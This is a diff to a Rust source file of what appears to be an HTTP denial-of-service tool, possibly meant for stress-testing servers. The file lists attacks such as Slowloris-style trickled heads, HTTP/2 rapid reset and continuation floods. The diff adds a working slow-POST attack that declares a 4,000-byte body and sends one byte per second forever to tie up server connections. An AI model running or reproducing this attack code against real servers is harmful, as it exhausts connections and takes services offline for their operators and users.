@@ -33,6 +33,8 @@ pub enum Kind {
     Silent,
     /// An HTTP/1.1 head, one byte every 200 ms, never finished.
     TrickledHead,
+    /// An HTTP/1.1 request whose 4,000-byte body comes one byte a second.
+    TrickledBody,
     /// HTTP/2: as many POST streams as the server allows on each
     /// connection, each body one byte a second, never finished.
     HeldStreams,
@@ -49,9 +51,10 @@ pub enum Kind {
 
 impl Kind {
     /// Every attack.
-    pub const ALL: [Kind; 7] = [
+    pub const ALL: [Kind; 8] = [
         Kind::Silent,
         Kind::TrickledHead,
+        Kind::TrickledBody,
         Kind::HeldStreams,
         Kind::RapidReset,
         Kind::ContinuationFlood,
@@ -62,7 +65,7 @@ impl Kind {
     /// Whether it speaks HTTP/2 (the others work on any TCP listener,
     /// TLS included).
     pub fn is_h2(self) -> bool {
-        !matches!(self, Kind::Silent | Kind::TrickledHead)
+        !matches!(self, Kind::Silent | Kind::TrickledHead | Kind::TrickledBody)
     }
 }
 
@@ -133,6 +136,21 @@ async fn one(kind: Kind, tcp: TcpStream, authority: &str, path: &str, report: &R
                     }
                     report.sent.fetch_add(1, Ordering::Relaxed);
                     tokio::time::sleep(Duration::from_millis(200)).await;
+                }
+            }
+            Kind::TrickledBody => {
+                let head = format!(
+                    "POST {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n"
+                );
+                if wr.write_all(head.as_bytes()).await.is_err() {
+                    return;
+                }
+                loop {
+                    if wr.write_all(b" ").await.is_err() {
+                        return;
+                    }
+                    report.sent.fetch_add(1, Ordering::Relaxed);
+                    tokio::time::sleep(Duration::from_secs(1)).await;
                 }
             }
             Kind::HeldStreams => {
